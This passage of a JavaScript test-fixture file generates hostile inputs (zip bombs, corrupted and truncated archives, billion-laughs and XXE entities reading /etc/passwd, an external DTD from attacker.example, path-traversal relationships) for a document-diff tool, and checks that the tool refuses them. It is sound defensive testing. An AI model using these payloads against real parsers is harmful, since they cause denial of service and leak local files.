/**
 * The hostile-input corpus: every case is generated here, from code, so the
 * repository holds no hand-made binaries and a reader of this file sees
 * exactly what each input is.
 *
 * A case is { id, group, what, files, args, expect }:
 * - files: name -> bytes (or a function giving them, for the large ones),
 *   { sparse: n } for a file of n bytes that takes no disk space, or
 *   { symlink: target };
 * - args: the `redline compare` arguments, relative to the case's folder
 *   (default: the first two files, OLD then NEW);
 * - expect: the defined outcome. `{ status: 2, blame, message }`: trouble,
 *   one line on stderr naming `blame` and matching `message`. `{ status: 0|1,
 *   inserted, deleted, summary }`: a comparison whose Delta has these words
 *   inserted and deleted (each inside one op) and at least these counts.
 * - knownBug: a case that does not yet end as defined, and why (the test
 *   expects it to fail, so fixing the bug turns it red until this is removed).
 *
 * `hostileCases()` lists them; `writeCase(dir, c)` writes one case's files.
 */
import { closeSync, mkdirSync, openSync, ftruncateSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { docx, docxOf, docxParts, documentXml, p, rels, W } from "./docx.mjs";
import { concat, crc32, entry, layout, repeatedEntry, utf8, zeroBomb, zip } from "./zip.mjs";

// ---------------------------------------------------------------------------
// the base pair: a small resolution, and its revision with one word changed

export const OLD_LINES = [
  "RESOLUTION 99 (Rev. Geneva, 2024)",
  "Hostile inputs",
  "The World Telecommunication Standardization Assembly,",
  "considering",
  "a)\tthat documents can be damaged;",
  "b)\tthat readers must not crash,",
  "resolves",
  "1\tto refuse bad files with a clear message;",
  "2\tto compare good files precisely.",
];
export const NEW_LINES = OLD_LINES.map((l) => l.replace("precisely", "exactly"));

const text = (lines, eol = "\n") => utf8(lines.join(eol) + eol);
const OLD_TXT = text(OLD_LINES);
const NEW_TXT = text(NEW_LINES);
const OLD_DOCX = docxOf(OLD_LINES);
const NEW_DOCX = docxOf(NEW_LINES);

/** The change every "correct comparison" case against the base pair must find. */
const ONE_WORD = { status: 1, inserted: ["exactly"], deleted: ["precisely"], summary: { modified: 1 } };

// ---------------------------------------------------------------------------
// builders

const MiB = 1 << 20;

/** NEW's docx with `parts` replaced or added (null removes a part). */
const newWith = (parts) => docxOf(NEW_LINES, parts);

/** NEW's parts as raw zip entries, with `document.xml` replaced by `documentEntry`. */
function withDocumentEntry(documentEntry, extra = []) {
  const parts = docxParts(NEW_LINES.map((t) => p(t)).join("")).filter(([n]) => n !== "word/document.xml");
  return zip([...parts.map(([n, c]) => entry(n, c)), documentEntry, ...extra]);
}

/** document.xml made of `unit` repeated to about `mib` MiB, honestly declared, in an archive of a few hundred KB. */
function honestDocument(unit, mib) {
  const [head, tail] = documentXml("@@").split("@@");
  const chunk = unit.repeat(Math.ceil(MiB / unit.length));
  return withDocumentEntry(repeatedEntry("word/document.xml", head, chunk, mib, tail));
}

/** The compound-file (OLE) shell of .doc files and of password-protected .docx (MS-CFB), with these directory entries. */
function ole(streams) {
  const bytes = new Uint8Array(512 + 512 * 2);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  ["Root Entry", ...streams].forEach((name, i) => {
    const at = 512 + i * 128;
    for (let c = 0; c < name.length; c++) bytes[at + 2 * c] = name.charCodeAt(c);
    bytes[at + 0x40] = (name.length + 1) * 2;
    bytes[at + 0x42] = i === 0 ? 5 : 2;
  });
  return bytes;
}

/** A zip nested `depth` times, each level holding `width` copies of the level below (42.zip's shape). */
function nestedZip(depth, width) {
  let level = zip([{ name: "0.bin", data: zeroBomb(1), method: 8, size: MiB, crc: crc32(new Uint8Array(MiB)), flags: 0 }]);
  for (let d = 0; d < depth; d++) {
    const inner = level;
    level = zip(Array.from({ length: width }, (_, i) => entry(`${d}-${i}.zip`, inner)));
  }
  return level;
}

/** Flip one byte of `bytes` at `at`. */
function flipped(bytes, at, mask = 0xff) {
  const out = bytes.slice();
  out[at] ^= mask;
  return out;
}

/** Write a little-endian u16/u32 into a copy. */
function patched(bytes, at, value, width) {
  const out = bytes.slice();
  for (let i = 0; i < width; i++) out[at + i] = (value >>> (8 * i)) & 0xff;
  return out;
}

const W_NS = `xmlns:w="${W}"`;
const styles = (body) => `<?xml version="1.0" encoding="UTF-8"?><w:styles ${W_NS}>${body}</w:styles>`;
const DOC_RELS_WITH_NUMBERING = rels([
  ["rId1", "styles", "styles.xml"],
  ["rId2", "numbering", "numbering.xml"],
]);
const LAUGHS =
  '<!DOCTYPE w:document [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`).join("") +
  "]>";

/** `n` paragraphs of distinct text; `changed` (if any) gets another word. */
function manyParagraphs(n, changed = -1) {
  return Array.from({ length: n }, (_, i) => `paragraph ${i} of a long document${i === changed ? " indeed" : ""}`);
}

/** ~`bytes` of varied words, from a fixed-seed generator (a single 5 MB paragraph has to be realistic text). */
function longWords(bytes) {
  let s = 12345;
  const out = [];
  for (let len = 0; len < bytes; ) {
    s = (Math.imul(s, 1103515245) + 12345) >>> 0;
    const w = `w${(s >>> 8) % 20000}`;
    out.push(w);
    len += w.length + 1;
  }
  return out.join(" ");
}

// ---------------------------------------------------------------------------
// the cases

export function hostileCases() {
  const cases = [];
  const add = (group, id, what, files, expect, extra = {}) => cases.push({ group, id, what, files, expect, args: null, ...extra });
  const refused = (blame, message) => ({ status: 2, blame, message });

  // --- archives: zip bombs --------------------------------------------------
  add("zip bomb", "bomb-lying-size", "word/document.xml declared as 1 KiB, inflating to 1 GiB of zeros (1 MB file)", {
    "old.docx": OLD_DOCX,
    "new.docx": () => withDocumentEntry({ name: "word/document.xml", data: zeroBomb(1024), method: 8, size: 1024, crc: 0, flags: 0 }),
  }, refused("new.docx", /zip bomb/));
  add("zip bomb", "bomb-declared-huge", "word/document.xml honestly declaring 1 GiB", {
    "old.docx": OLD_DOCX,
    "new.docx": () => withDocumentEntry({ name: "word/document.xml", data: zeroBomb(1024), method: 8, size: 1024 * MiB, crc: 0, flags: 0 }),
  }, refused("new.docx", /would expand to 1\.0 GiB/));
  add("zip bomb", "bomb-honest-xml-200mib", "word/document.xml honestly 200 MiB of paragraphs, under the archive limits (800 KB file)", {
    "old.docx": OLD_DOCX,
    "new.docx": () => honestDocument(p("x y z"), 200),
  }, refused("new.docx", /200 MiB of XML/));
  add("zip bomb", "bomb-honest-xml-nodes", "word/document.xml honestly 48 MiB of empty elements: 12 million XML nodes", {
    "old.docx": OLD_DOCX,
    "new.docx": () => honestDocument("<w:bookmarkEnd/>", 48),
  }, refused("new.docx", /2,000,000 XML elements/));
  add("zip bomb", "bomb-in-styles", "word/styles.xml declared as 100 bytes, inflating to 64 MiB", {
    "old.docx": OLD_DOCX,
    "new.docx": () => zip([
      ...docxParts(NEW_LINES.map((t) => p(t)).join("")).filter(([n]) => n !== "word/styles.xml").map(([n, c]) => entry(n, c)),
      { name: "word/styles.xml", data: zeroBomb(64), method: 8, size: 100, crc: 0, flags: 0 },
    ]),
  }, refused("new.docx", /word\/styles\.xml.*zip bomb/));
  add("zip bomb", "bomb-wide-entries", "10,001 empty entries", {
    "old.docx": OLD_DOCX,
    "new.docx": () => zip(Array.from({ length: 10_001 }, (_, i) => entry(`junk/${i}`, new Uint8Array(0), { method: 0 }))),
  }, refused("new.docx", /10001 parts/));
  add("zip bomb", "bomb-wide-overlapping", "1,000 entries sharing one 1 MiB deflate stream (Fifield's overlapping bomb): 1,000 MiB declared", {
    "old.docx": OLD_DOCX,
    "new.docx": () => {
      const shared = { data: zeroBomb(1), method: 8, size: MiB, crc: crc32(new Uint8Array(MiB)), flags: 0 };
      return zip(Array.from({ length: 1000 }, (_, i) => ({ ...shared, name: `word/media/image${i}.png`, ...(i > 0 ? { sharesDataOf: 0 } : {}) })));
    },
  }, refused("new.docx", /more than the 512 MiB allowed/));
  add("zip bomb", "bomb-wide-overlapping-unread", "a valid document plus 300 entries sharing one 1 MiB stream, under the limits: never inflated", {
    "old.docx": OLD_DOCX,
    "new.docx": () => {
      const parts = docxParts(NEW_LINES.map((t) => p(t)).join("")).map(([n, c]) => entry(n, c));
      const shared = { data: zeroBomb(1), method: 8, size: MiB, crc: crc32(new Uint8Array(MiB)), flags: 0 };
      const first = parts.length;
      return zip([...parts, ...Array.from({ length: 300 }, (_, i) => ({ ...shared, name: `word/media/image${i}.png`, ...(i > 0 ? { sharesDataOf: first } : {}) }))]);
    },
  }, ONE_WORD);
  add("zip bomb", "bomb-nested-embedded", "a valid document embedding a 4-level nested zip (42.zip's shape, 16^4 MiB nominal): never opened", {
    "old.docx": OLD_DOCX,
    "new.docx": () => newWith({ "word/embeddings/oleObject1.bin": nestedZip(4, 16) }),
  }, ONE_WORD);
  add("zip bomb", "bomb-nested-bare", "the 4-level nested zip itself, named .docx", {
    "old.docx": OLD_DOCX,
    "new.docx": () => nestedZip(4, 16),
  }, refused("new.docx", /no Word document inside/));
  add("zip bomb", "bomb-lying-image-docx-out", "an image part declared 1 KiB inflating to 1 GiB, written to a tracked .docx: copied, never inflated", {
    "old.docx": OLD_DOCX,
    "new.docx": () => zip([
      ...docxParts(NEW_LINES.map((t) => p(t)).join("")).map(([n, c]) => entry(n, c)),
      { name: "word/media/image1.png", data: zeroBomb(1024), method: 8, size: 1024, crc: 0, flags: 0 },
    ]),
  }, { status: 1, outputFormat: "docx" }, { output: "out.docx" });

  // --- archives: truncated at every class of offset ---------------------------
  const good = NEW_DOCX;
  const map = layout(good);
  const doc = map.entries.find((e) => e.name === "word/document.xml");
  const cuts = [
    ["empty", 0, /is empty/],
    ["2-bytes", 2, /not a zip package/],
    ["in-first-local-header", 20, /damaged or incomplete/],
    ["in-document-data", Math.floor((doc.dataStart + doc.dataEnd) / 2), /damaged or incomplete/],
    ["before-central-directory", map.directory, /damaged or incomplete/],
    ["in-central-directory", map.directory + Math.floor((map.eocd - map.directory) / 2), /damaged or incomplete/],
    ["at-end-record", map.eocd, /damaged or incomplete/],
    ["end-record-minus-1", good.length - 1, /damaged or incomplete/],
  ];
  // a hole, not a cut: the end record survives, so the directory is read and its offsets are wrong
  cuts.push(
    ["hole-in-document-data", concat([good.subarray(0, doc.dataStart + 8), good.subarray(doc.dataEnd - 8)]), /damaged or incomplete/],
    ["hole-in-central-directory", concat([good.subarray(0, map.directory + 10), good.subarray(map.eocd - 10)]), /damaged or incomplete/],
  );
  for (const [name, at, message] of cuts) {
    if (typeof at !== "number") {
      add("truncated", `truncated-${name}`, `NEW's .docx with bytes cut out of the middle (${good.length - at.length} bytes)`, { "old.docx": OLD_DOCX, "new.docx": at }, refused("new.docx", message));
      continue;
    }
    add("truncated", `truncated-${name}`, `NEW's .docx cut at byte ${at} of ${good.length}`, { "old.docx": OLD_DOCX, "new.docx": good.subarray(0, at) }, refused("new.docx", message));
  }

  // --- archives: corrupted ------------------------------------------------------
  const corrupt = [
    ["local-signature", "the document part's local header signature", flipped(good, doc.local), /"word\/document\.xml" cannot be found/],
    ["document-data", "a byte in the middle of the document part's deflate data", flipped(good, Math.floor((doc.dataStart + doc.dataEnd) / 2)), /damaged or incomplete/],
    ["document-crc", "the document part's checksum in the directory", flipped(good, doc.central + 16), /fails its checksum/],
    ["name-length", "a directory entry's name length set to 65535", patched(good, doc.central + 28, 0xffff, 2), /damaged or incomplete/],
    ["entry-count-huge", "the end record's entry count set to 65534", patched(patched(good, map.eocd + 8, 0xfffe, 2), map.eocd + 10, 0xfffe, 2), /lists 65534 parts, more than the 10000 allowed/],
    ["entry-count-plus-one", "the end record's entry count one more than the directory holds", patched(patched(good, map.eocd + 8, map.entries.length + 1, 2), map.eocd + 10, map.entries.length + 1, 2), /directory is cut short/],
    ["entry-count-zip64", "the end record's entry count set to 0xFFFF (zip64) without a zip64 record", patched(patched(good, map.eocd + 8, 0xffff, 2), map.eocd + 10, 0xffff, 2), /zip64 directory locator is missing/],
    ["directory-offset", "the end record's directory offset pointing past the end", patched(good, map.eocd + 16, 0x7fffffff, 4), /points past the end/],
    ["local-offset", "a directory entry's local header offset pointing past the end", patched(good, doc.central + 42, 0x7ffffff0, 4), /cannot be found/],
    ["method", "the document part's compression method set to 14 (LZMA)", patched(good, doc.central + 10, 14, 2), /compression method \(14\)/],
    ["encrypted-entry", "the document part flagged as encrypted (zip encryption)", patched(good, doc.central + 8, 1, 2), /encrypted/],
    ["stored-wrong-length", "a stored part whose declared size is 1 byte short", withDocumentEntry({ ...entry("word/document.xml", documentXml(p("x")), { method: 0 }), size: documentXml(p("x")).length - 1 }), /wrong length/],
  ];
  for (const [name, what, bytes, message] of corrupt) add("corrupted", `corrupt-${name}`, what, { "old.docx": OLD_DOCX, "new.docx": bytes }, refused("new.docx", message));

  // --- archives: names and relationships ----------------------------------------
  const dup = (name) => zip([...docxParts(NEW_LINES.map((t) => p(t)).join("")).map(([n, c]) => entry(n, c)), entry(name, documentXml(p("impostor")))]);
  add("parts", "duplicate-part", "word/document.xml listed twice", { "old.docx": OLD_DOCX, "new.docx": dup("word/document.xml") }, refused("new.docx", /appears twice/));
  add("parts", "duplicate-part-case", "word/document.xml and WORD/Document.xml (OPC names ignore case)", { "old.docx": OLD_DOCX, "new.docx": dup("WORD/Document.xml") }, refused("new.docx", /appears twice/));
  add("parts", "no-package-rels", "no _rels/.rels: the usual name is used", { "old.docx": OLD_DOCX, "new.docx": newWith({ "_rels/.rels": null }) }, ONE_WORD);
  add("parts", "no-document-rels", "no word/_rels/document.xml.rels", { "old.docx": OLD_DOCX, "new.docx": newWith({ "word/_rels/document.xml.rels": null }) }, ONE_WORD);
  add("parts", "rels-target-missing", "the officeDocument relationship names a part that does not exist", {
    "old.docx": OLD_DOCX,
    "new.docx": newWith({ "_rels/.rels": rels([["rId1", "officeDocument", "word/nowhere.xml"]]) }),
  }, ONE_WORD);
  add("parts", "rels-traversal", "relationships pointing outside the package (../../etc/passwd), external, and at the document itself", {
    "old.docx": OLD_DOCX,
    "new.docx": newWith({
      "word/_rels/document.xml.rels": rels([["rId1", "styles", "document.xml"], ["rId2", "numbering", "../../../../etc/passwd"], ["rId3", "footnotes", "file:///etc/passwd", "External"]]),
    }),
  }, ONE_WORD);
  add("parts", "no-document", "a package whose relationships are fine but which has no word/document.xml", {
    "old.docx": OLD_DOCX,
    "new.docx": newWith({ "word/document.xml": null }),
  }, refused("new.docx", /no Word document inside/));
  add("parts", "style-cycle", "paragraph styles based on each other in a cycle", {
    "old.docx": OLD_DOCX,
    "new.docx": newWith({
      "word/styles.xml": styles(`<w:style w:type="paragraph" w:styleId="Normal"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="Normal"/></w:style>`),
    }),
  }, ONE_WORD);
  add("parts", "numbering-cycle", "list definitions linked to each other through numbering styles, with absurd start values and levels", {
    "old.docx": docx(OLD_LINES.map((t) => p(t)).join(""), {}),
    "new.docx": docx(
      NEW_LINES.map((t) => p(t)).join("") +
        [[1, 0], [2, 0], [2, 8], [2, 99999999], [99, 0]].map(([n, l]) => `<w:p><w:pPr><w:numPr><w:ilvl w:val="${l}"/><w:numId w:val="${n}"/></w:numPr></w:pPr><w:r><w:t>item</w:t></w:r></w:p>`).join(""),
      {
        "word/_rels/document.xml.rels": DOC_RELS_WITH_NUMBERING,
        "word/styles.xml": styles(`<w:style w:type="numbering" w:styleId="L"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>`),
        "word/numbering.xml": `<?xml version="1.0"?><w:numbering ${W_NS}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="L"/></w:abstractNum><w:abstractNum w:abstractNumId="1"><w:styleLink w:val="L"/><w:lvl w:ilvl="0"><w:start w:val="4294967295"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%2%3%4%5%6%7%8%9%10)"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num></w:numbering>`,
      },
    ),
  }, { status: 1, inserted: ["exactly"], deleted: ["precisely"] });
  const list = (fmt, start) =>
    docx(
      NEW_LINES.map((t) => p(t)).join("") + Array.from({ length: 20 }, (_, i) => `<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>item ${i}</w:t></w:r></w:p>`).join(""),
      {
        "word/_rels/document.xml.rels": DOC_RELS_WITH_NUMBERING,
        "word/numbering.xml": `<?xml version="1.0"?><w:numbering ${W_NS}><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="${start}"/><w:numFmt w:val="${fmt}"/><w:lvlText w:val="%1)"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>`,
      },
    );
  for (const fmt of ["lowerLetter", "upperRoman", "chicago"]) {
    add("parts", `list-start-huge-${fmt}`, `a ${fmt} list starting at 2147483647 (labels would be millions of characters long)`, { "old.docx": OLD_DOCX, "new.docx": list(fmt, 2147483647) }, {
      status: 1,
      inserted: ["exactly", "item 19"],
      deleted: ["precisely"],
    });
  }
  const chain = 20_000;
  add("parts", "style-chain-20000", "20,000 paragraph styles, each based on the one before", {
    "old.docx": OLD_DOCX,
    "new.docx": () =>
      docx(NEW_LINES.map((t) => p(t, `S${chain - 1}`)).join(""), {
        "word/styles.xml": styles(Array.from({ length: chain }, (_, i) => `<w:style w:type="paragraph" w:styleId="S${i}"><w:name w:val="s${i}"/>${i ? `<w:basedOn w:val="S${i - 1}"/>` : ""}<w:rPr><w:b/></w:rPr></w:style>`).join("")),
      }),
  }, ONE_WORD);
  add("parts", "numbering-chain-20000", "20,000 list definitions, each linked to the one before through a numbering style", {
    "old.docx": OLD_DOCX,
    "new.docx": () =>
      docx(NEW_LINES.map((t) => p(t)).join("") + `<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="${chain}"/></w:numPr></w:pPr><w:r><w:t>item</w:t></w:r></w:p>`, {
        "word/_rels/document.xml.rels": DOC_RELS_WITH_NUMBERING,
        "word/styles.xml": styles(Array.from({ length: chain }, (_, i) => `<w:style w:type="numbering" w:styleId="L${i}"><w:pPr><w:numPr><w:numId w:val="${i + 1}"/></w:numPr></w:pPr></w:style>`).join("")),
        "word/numbering.xml":
          `<?xml version="1.0"?><w:numbering ${W_NS}>` +
          Array.from({ length: chain }, (_, i) => `<w:abstractNum w:abstractNumId="${i}">${i ? `<w:numStyleLink w:val="L${i - 1}"/>` : '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl>'}</w:abstractNum>`).join("") +
          Array.from({ length: chain }, (_, i) => `<w:num w:numId="${i + 1}"><w:abstractNumId w:val="${i}"/></w:num>`).join("") +
          "</w:numbering>",
      }),
  }, ONE_WORD);
  add("parts", "missing-footnote", "a footnote reference to a note that does not exist, and a field that never ends", {
    "old.docx": OLD_DOCX,
    "new.docx": docx(NEW_LINES.map((t) => p(t)).join("") + `<w:p><w:r><w:t>note</w:t></w:r><w:r><w:footnoteReference w:id="7"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>`),
  }, { status: 1, inserted: ["exactly"], deleted: ["precisely"] });

  // --- not a .docx at all ---------------------------------------------------------
  add("not docx", "encrypted-ole", "a password-protected .docx (OLE compound file with an EncryptedPackage stream)", { "old.docx": OLD_DOCX, "new.docx": ole(["EncryptionInfo", "EncryptedPackage"]) }, refused("new.docx", /password-protected/));
  add("not docx", "legacy-doc", "a Word 97-2003 .doc renamed .docx", { "old.docx": OLD_DOCX, "new.docx": ole(["WordDocument", "1Table"]) }, refused("new.docx", /Word 97-2003/));
  add("not docx", "odt", "an OpenDocument text renamed .docx", {
    "old.docx": OLD_DOCX,
    "new.docx": zip([entry("mimetype", "application/vnd.oasis.opendocument.text", { method: 0 }), entry("content.xml", "<office:document-content/>")]),
  }, refused("new.docx", /OpenDocument text/));
  add("not docx", "pdf-as-docx", "a PDF renamed .docx", { "old.docx": OLD_DOCX, "new.docx": utf8("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n") }, refused("new.docx", /PDF/));
  add("not docx", "pdf-as-txt", "a PDF renamed .txt", { "old.txt": OLD_TXT, "new.txt": utf8("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<<>>\nendobj\n") }, refused("new.txt", /not a text file/));
  add("not docx", "rtf-as-docx", "an RTF file renamed .docx", { "old.docx": OLD_DOCX, "new.docx": utf8("{\\rtf1\\ansi hello}") }, refused("new.docx", /RTF/));
  add("not docx", "xlsx-as-docx", "an Excel workbook renamed .docx", {
    "old.docx": OLD_DOCX,
    "new.docx": zip([entry("_rels/.rels", rels([["rId1", "officeDocument", "xl/workbook.xml"]])), entry("xl/workbook.xml", "<workbook/>")]),
  }, refused("new.docx", /Excel/));
  add("not docx", "png-as-txt", "a PNG image renamed .txt", { "old.txt": OLD_TXT, "new.txt": new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]) }, refused("new.txt", /UTF-8|NUL/));

  // --- hostile XML ------------------------------------------------------------------
  const docWith = (prolog, body = NEW_LINES.map((t) => p(t)).join("")) => newWith({ "word/document.xml": documentXml(body, { prolog }) });
  add("xml", "billion-laughs", "a DOCTYPE declaring nested entities (billion laughs)", { "old.docx": OLD_DOCX, "new.docx": docWith(LAUGHS, p("&lol9;")) }, refused("new.docx", /document type declaration/));
  add("xml", "external-entity", "an external entity reading /etc/passwd (XXE)", {
    "old.docx": OLD_DOCX,
    "new.docx": docWith('<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>"),
  }, refused("new.docx", /document type declaration/));
  add("xml", "external-dtd", "a DOCTYPE loading an external DTD over the network, after a comment", {
    "old.docx": OLD_DOCX,
    "new.docx": docWith('<!-- hi --><!DOCTYPE w:document SYSTEM "http://attacker.example/evil.dtd">'),
  }, refused("new.docx", /document type declaration/));
  add("xml", "doctype-in-styles", "a billion-laughs DOCTYPE in word/styles.xml", {
    "old.docx": OLD_DOCX,
    "new.docx": newWith({ "word/styles.xml": `<?xml version="1.0"?>${LAUGHS}<w:styles ${W_NS}/>` }),
  }, refused("new.docx", /word\/styles\.xml.*document type declaration/));
  add("xml", "doctype-in-rels", "an external entity in _rels/.rels", {
    "old.docx": OLD_DOCX,
    "new.docx": newWith({ "_rels/.rels": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>' }),
  }, refused("new.docx", /_rels\/\.rels.*document type declaration/));
  add("xml", "undefined-entity", "an entity reference without any declaration", { "old.docx": OLD_DOCX, "new.docx": docWith("", "<w:p><w:r><w:t>&nbsp;</w:t></w:r></w:p>") }, refused("new.docx", /not well-formed/));
  add("xml", "surrogate-char-ref", "a character reference to a lone surrogate (&#xD800;)", { "old.docx": OLD_DOCX, "new.docx": docWith("", "<w:p><w:r><w:t>a &#xD800; b</w:t></w:r></w:p>") }, refused("new.docx", /not well-formed/));
  add("xml", "invalid-utf8-part", "word/document.xml with bytes that are not UTF-8", {
    "old.docx": OLD_DOCX,
    "new.docx": newWith({ "word/document.xml": concat([utf8(documentXml("@").split("@")[0]), new Uint8Array([0x3c, 0x77, 0x3a, 0x70, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x77, 0x3a, 0x70, 0x3e]), utf8(documentXml("@").split("@")[1])]) }),
  }, refused("new.docx", /not valid UTF-8/));
  add("xml", "utf16-part", "word/document.xml in UTF-16LE with a BOM", {
    "old.docx": OLD_DOCX,
    "new.docx": newWith({ "word/document.xml": concat([new Uint8Array([0xff, 0xfe]), new Uint8Array(Buffer.from(documentXml(NEW_LINES.map((t) => p(t)).join("")).replace('encoding="UTF-8"', 'encoding="UTF-16"'), "utf16le"))]) }),
  }, ONE_WORD);
  const nest = (open, close, inner, n = 10_000) => open.repeat(n) + inner + close.repeat(n);
  const deep = [
    ["unknown-elements", nest('<x:a xmlns:x="urn:x">', "</x:a>", "")],
    ["content-controls", nest("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", p("deep"))],
    ["tables", nest("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", p("deep"))],
    ["insertions", `<w:p>${nest('<w:ins w:id="1" w:author="a">', "</w:ins>", "<w:r><w:t>deep</w:t></w:r>")}</w:p>`],
    ["smart-tags", `<w:p>${nest("<w:smartTag>", "</w:smartTag>", "<w:r><w:t>deep</w:t></w:r>")}</w:p>`],
  ];
  for (const [name, body] of deep) {
    add("xml", `nesting-10000-${name}`, `10,000 levels of nested ${name.replace("-", " ")}`, { "old.docx": OLD_DOCX, "new.docx": docWith("", NEW_LINES.map((t) => p(t)).join("") + body) }, refused("new.docx", /more than 256 levels deep/));
  }
  add("xml", "nesting-60-tables", "tables nested 60 deep (180 levels): under the limit, read", {
    "old.docx": OLD_DOCX,
    "new.docx": docWith("", NEW_LINES.map((t) => p(t)).join("") + nest("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", p("deep"), 60)),
  }, ONE_WORD);

  // --- size ---------------------------------------------------------------------------
  const big = longWords(5 * MiB);
  const bigChanged = big.replace(" w", " CHANGED w");
  add("size", "paragraph-5mb-txt", "one 5 MB paragraph (text), one word inserted", { "old.txt": () => utf8(big + "\n"), "new.txt": () => utf8(bigChanged + "\n") }, { status: 1, inserted: ["CHANGED"], summary: { modified: 1 } });
  add("size", "paragraph-5mb-docx", "one 5 MB paragraph (.docx), one word inserted", { "old.docx": () => docxOf([big]), "new.docx": () => docxOf([bigChanged]) }, { status: 1, inserted: ["CHANGED"], summary: { modified: 1 } });
  add("size", "token-2mb", "a 2 MB 'word' without spaces, one letter changed in the middle", {
    "old.txt": () => utf8("a".repeat(2 * MiB) + "\n"),
    "new.txt": () => utf8("a".repeat(MiB) + "b" + "a".repeat(MiB - 1) + "\n"),
  }, { status: 1, inserted: ["ab"], summary: { added: 1, deleted: 1 } });
  add("size", "empty-paragraphs-200k-docx", "200,000 empty paragraphs (.docx)", { "old.docx": OLD_DOCX, "new.docx": () => docx("<w:p/>".repeat(200_000)) }, refused("new.docx", /more than 50,000 paragraphs/));
  add("size", "blank-lines-200k-txt", "200,000 blank lines around the revision (text)", {
    "old.txt": OLD_TXT,
    "new.txt": () => utf8("\n".repeat(100_000) + NEW_LINES.join("\n\n\n") + "\n".repeat(100_000)),
  }, ONE_WORD);
  add("size", "paragraphs-60k-txt", "60,000 paragraphs (text)", { "old.txt": OLD_TXT, "new.txt": () => utf8(manyParagraphs(60_000).join("\n") + "\n") }, refused("new.txt", /more than 50,000 paragraphs/));
  add("size", "paragraphs-40k-docx", "40,000 paragraphs on each side (.docx), one changed: under the limit, compared", {
    "old.docx": () => docxOf(manyParagraphs(40_000)),
    "new.docx": () => docxOf(manyParagraphs(40_000, 20_000)),
  }, { status: 1, inserted: ["indeed"], summary: { modified: 1 } });
  add("size", "interleaved-inserts-docx-out", "20,000 paragraphs with 20,000 new ones inserted between them, written as a tracked .docx", {
    "old.docx": () => docxOf(manyParagraphs(20_000)),
    "new.docx": () => docxOf(manyParagraphs(20_000).flatMap((t, i) => [t, `inserted paragraph number ${i}`])),
  }, { status: 1, outputFormat: "docx" }, {
    output: "out.docx",
  });
  add("size", "lines-1m-txt", "1,000,001 empty lines (text)", { "old.txt": OLD_TXT, "new.txt": () => utf8("\n".repeat(1_000_001)) }, refused("new.txt", /more than 1,000,000 lines/));
  add("size", "chars-9m-txt", "9 million characters of text", { "old.txt": OLD_TXT, "new.txt": () => utf8(longWords(9 * MiB)) }, refused("new.txt", /characters of text/));
  add("size", "file-over-max-size", "a 300 MB (sparse) file, over the default --max-size", { "old.txt": OLD_TXT, "new.txt": { sparse: 300 * 1000 * 1000 } }, refused("new.txt", /larger than the limit/));
  add("size", "max-size-flag", "a 2 MB file with --max-size 1", { "old.txt": OLD_TXT, "new.txt": () => utf8("x ".repeat(MiB)) }, refused("new.txt", /larger than the limit of 1\.0 MB/), {
    args: ["old.txt", "new.txt", "--max-size", "1"],
  });

  // --- text encodings and characters ------------------------------------------------------
  const t = (lines) => utf8(lines.join("\n") + "\n");
  add("text", "empty-file", "an empty file", { "old.txt": OLD_TXT, "new.txt": new Uint8Array(0) }, refused("new.txt", /is empty/));
  add("text", "invalid-utf8", "bytes that are not UTF-8 (0xC3 0x28)", { "old.txt": OLD_TXT, "new.txt": concat([NEW_TXT, new Uint8Array([0xc3, 0x28, 0x0a])]) }, refused("new.txt", /not valid UTF-8/));
  add("text", "utf8-encoded-surrogate", "a lone surrogate encoded as UTF-8 (ED A0 80, CESU style)", { "old.txt": OLD_TXT, "new.txt": concat([NEW_TXT, new Uint8Array([0xed, 0xa0, 0x80, 0x0a])]) }, refused("new.txt", /not valid UTF-8/));
  add("text", "overlong-utf8", "an overlong encoding of '/' (C0 AF)", { "old.txt": OLD_TXT, "new.txt": concat([NEW_TXT, new Uint8Array([0xc0, 0xaf, 0x0a])]) }, refused("new.txt", /not valid UTF-8/));
  add("text", "nul-bytes", "NUL bytes in the middle of a text file", { "old.txt": OLD_TXT, "new.txt": concat([NEW_TXT, new Uint8Array([0x61, 0x00, 0x62, 0x0a])]) }, refused("new.txt", /NUL/));
  add("text", "utf16-lone-surrogate", "UTF-16LE text (with BOM) containing a lone high surrogate", {
    "old.txt": OLD_TXT,
